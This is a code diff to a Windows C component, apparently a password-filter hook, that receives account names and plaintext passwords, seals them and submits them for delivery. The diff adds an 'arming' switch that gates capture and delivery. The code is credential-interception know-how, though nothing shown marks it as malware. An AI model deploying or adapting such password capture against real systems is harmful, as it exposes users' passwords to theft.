@@ -1,10 +1,12 @@
 #include "windows_api.h"
 
+#include "arming.h"
 #include "cryptography.h"
 #include "delivery.h"
 #include "envelope.h"
 #include "filter.h"
 #include "platform.h"
+#include "registry.h"
 #include "settings.h"
 #include "status.h"
 
@@ -12,9 +14,14 @@ void filter_start(void *unused)
 {
     (void)unused;
     status_open();
+    registry_open();
+    if (!cryptography_open())
+        return;
+    arming_look();
     settings_refresh();
-    if (!cryptography_open() || !delivery_start())
-        status_set(STATUS_STATE, STATE_NOT_STARTED);
+    /* Without its threads it would take captures in that nobody brings out, or could not be switched off. */
+    if (!delivery_start() || !arming_watch())
+        arming_give_up();
 }
 
 static uint64_t now_since_1601(void)
@@ -62,14 +69,14 @@ static __declspec(noinline) void seal_and_submit(struct ps_notice *notice)
     if (!sealed)
         return;
     status_count(STATUS_CAPTURED);
-    delivery_submit(&envelope, settings_wait_ms());
+    delivery_submit(&envelope, arming_wait_ms());
 }
 
 void filter_hear(void *argument)
 {
     struct filter_call *call = argument;
 
-    if (!settings_armed())
+    if (!arming_armed())
         return;
     status_count(STATUS_HEARD);
     switch (ps_notice_take(call->account, call->rid, call->password, &call->notice)) {
